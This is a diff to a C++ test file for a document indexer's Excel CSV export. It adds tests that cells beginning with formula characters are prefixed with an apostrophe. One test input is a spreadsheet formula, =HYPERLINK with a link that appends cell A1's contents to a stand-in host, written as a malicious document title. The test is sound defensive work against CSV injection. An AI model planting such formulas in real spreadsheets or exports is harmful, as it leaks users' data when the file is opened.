@@ -5,6 +5,9 @@
 
 #include <nlohmann/json.hpp>
 
+#include <map>
+#include <set>
+
 #include "tests/foundation/cli_runner.h"
 
 namespace diar {
@@ -105,7 +108,42 @@ TEST_F(ExportForExcel, ExcelCsvRoundTripsSwedishLettersQuotesSemicolonsAndNewlin
 TEST_F(ExportForExcel, MentionsCsvForExcelKeepsTheColumnsOfThePlainCsv) {
   auto excel = ReadCsv(Export({"export", "--excel", "--format", "csv"}).substr(3), ';');
   auto plain = ReadCsv(Export({"export", "--format", "csv"}), ',');
-  EXPECT_EQ(excel, plain);
+  ASSERT_EQ(excel.size(), plain.size());
+  for (std::size_t r = 0; r < plain.size(); ++r) {
+    ASSERT_EQ(excel[r].size(), plain[r].size());
+    for (std::size_t c = 0; c < plain[r].size(); ++c) {
+      // The same text, or a cell that would start a formula shown as text.
+      const std::string& p = plain[r][c];
+      const bool formula = !p.empty() && std::string("=+-@\t\r").find(p[0]) != std::string::npos;
+      EXPECT_EQ(excel[r][c], formula ? "'" + p : p) << "row " << r << " column " << c;
+    }
+  }
+}
+
+// A title a document chose to be a formula: Excel must show it, not run it.
+TEST(ExcelCsv, AFormulaInATitleArrivesAsText) {
+  TempDir docs, index;
+  const std::string formula = "=HYPERLINK(\"https://example.com/?d=\"&A1;\"Klicka här\")";
+  WriteFile(docs.path() / "formel.txt", formula + "\nDatum 2021-06-01\n\nRegionstyrelsen antog planen.\n");
+  WriteFile(docs.path() / "plus.txt", "+46 21 17 30 00\nDatum 2021-06-02\n\nKulturnämnden yttrade sig.\n");
+  ASSERT_EQ(RunDiar(index.path(), {"ingest", docs.path().string()}).exit_code, 0);
+  testing::RunResult excel = RunDiar(index.path(), {"export", "--documents", "--excel", "--format", "csv"});
+  ASSERT_EQ(excel.exit_code, 0) << excel.err;
+  testing::RunResult plain = RunDiar(index.path(), {"export", "--documents", "--format", "csv"});
+  ASSERT_EQ(plain.exit_code, 0) << plain.err;
+  std::map<std::string, std::string> excel_titles, plain_titles;  // by document id
+  for (const auto& row : ReadCsv(excel.out.substr(3), ';')) excel_titles[row[0]] = row[2];
+  for (const auto& row : ReadCsv(plain.out, ',')) plain_titles[row[0]] = row[2];
+  ASSERT_EQ(excel_titles.size(), 3u);  // the header and two documents
+  int formulas = 0;
+  for (const auto& [id, title] : plain_titles) {
+    if (id == "id") continue;
+    // Plain CSV is for programs: the exact title; Excel's shows it as text.
+    ASSERT_TRUE(title.rfind(formula, 0) == 0 || title.rfind("+46 21 17 30 00", 0) == 0) << title;
+    EXPECT_EQ(excel_titles[id], "'" + title);
+    ++formulas;
+  }
+  EXPECT_EQ(formulas, 2);
 }
 
 TEST_F(ExportForExcel, DocumentsExportHasOneRowPerSearchHitForTheSameQueryAndFilters) {
